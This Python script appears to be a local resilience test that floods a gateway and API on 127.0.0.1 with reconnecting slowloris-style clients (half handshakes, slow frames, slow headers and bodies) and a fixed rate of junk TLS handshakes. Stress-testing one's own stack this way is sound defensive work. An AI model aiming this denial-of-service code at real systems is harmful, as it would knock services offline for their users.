"""Attacks a local stack: slow clients that come back when they are ended, and junk handshakes. flood.sh runs it."""

import argparse
import asyncio
import collections
import os
import random
import ssl

ADDRESSES = [f"127.66.{i}.{j}" for i in range(25) for j in range(1, 11)]
DRIP_SECONDS = 4
JUNK = ("random bytes", "a hello and nothing", "handshake and away")

arguments = argparse.ArgumentParser()
arguments.add_argument("--gateway", type=int, default=7443)
arguments.add_argument("--api", type=int, default=7080)
arguments.add_argument("--slow", type=int, default=2000, help="slow clients at one time")
arguments.add_argument("--junk", type=int, default=500, help="junk handshakes in a second")
arguments.add_argument("--seconds", type=int, default=25)
options = arguments.parse_args()

counts = collections.Counter()
tls = ssl.create_default_context()
tls.check_hostname, tls.verify_mode = False, ssl.CERT_NONE
tls.set_alpn_protocols(["mss/1"])


def client_hello():
    """The first bytes of a handshake, as a device sends them."""
    outgoing = ssl.MemoryBIO()
    try:
        tls.wrap_bio(ssl.MemoryBIO(), outgoing, server_hostname="localhost").do_handshake()
    except ssl.SSLWantReadError:
        pass
    return outgoing.read()


HELLO = client_hello()
HEAD = b"POST /webapi/sync/single?instanceId=demo_app HTTP/1.1\r\nHost: t\r\nContent-Type: application/json\r\n"


async def connect(port, context=None):
    return await asyncio.wait_for(
        asyncio.open_connection("127.0.0.1", port, ssl=context, local_addr=(random.choice(ADDRESSES), 0)), 10
    )


async def drip(reader, writer, first, more):
    """Sends the first bytes, then one every few seconds until the other side ends it."""
    writer.write(first)
    while True:
        try:
            if not await asyncio.wait_for(reader.read(4096), DRIP_SECONDS):
                return
        except asyncio.TimeoutError:
            writer.write(more)


async def slow(kind):
    port, context, first, more = {
        "half a handshake": (options.gateway, None, HELLO[:100], b"\0"),
        "no Connect": (options.gateway, tls, b"", b""),
        "a slow frame": (options.gateway, tls, b"\0\0\1\0", b"\n"),
        "a slow head": (options.api, None, HEAD, b"x"),
        "a slow body": (options.api, None, HEAD + b"Content-Length: 60000\r\n\r\n", b"x"),
    }[kind]
    while True:
        writer = None
        try:
            reader, writer = await connect(port, context)
            counts[kind] += 1
            await drip(reader, writer, first, more)
        except (OSError, asyncio.TimeoutError, ssl.SSLError):
            counts[kind + ", refused or cut"] += 1
        finally:
            if writer:
                writer.transport.abort()
        await asyncio.sleep(random.random())


async def junk(kind):
    writer = None
    try:
        reader, writer = await connect(options.gateway, tls if kind == "handshake and away" else None)
        if kind == "random bytes":
            writer.write(os.urandom(500))
        elif kind == "a hello and nothing":
            writer.write(HELLO)
            await asyncio.sleep(2)
        counts[kind] += 1
    except (OSError, asyncio.TimeoutError, ssl.SSLError):
        counts[kind + ", refused or cut"] += 1
    finally:
        if writer:
            writer.transport.abort()


async def main():
    loop = asyncio.get_running_loop()
    loop.set_exception_handler(lambda *_: None)
    kinds = ["half a handshake", "no Connect", "a slow frame", "a slow head", "a slow body"]
    # Kept, or the loop would drop them.
    tasks = {asyncio.ensure_future(slow(kinds[i % 5])) for i in range(options.slow)}
    begin, sent = loop.time(), 0
    while (now := loop.time() - begin) < options.seconds:
        while sent < now * options.junk:
            kind = JUNK[sent % 3]
            task = asyncio.ensure_future(junk(kind))
            tasks.add(task)
            task.add_done_callback(tasks.discard)
            sent += 1
        await asyncio.sleep(0.01)
    print(f"  attack: {sent} junk handshakes begun in {options.seconds} s; " + ", ".join(
        f"{kind} {count}" for kind, count in sorted(counts.items())), flush=True)
    done = sum(count for kind, count in counts.items() if kind.startswith(JUNK))
    # With everything that is open: an attacker says no goodbye.
    os._exit(0 if done >= 0.8 * sent else 1)


asyncio.run(main())
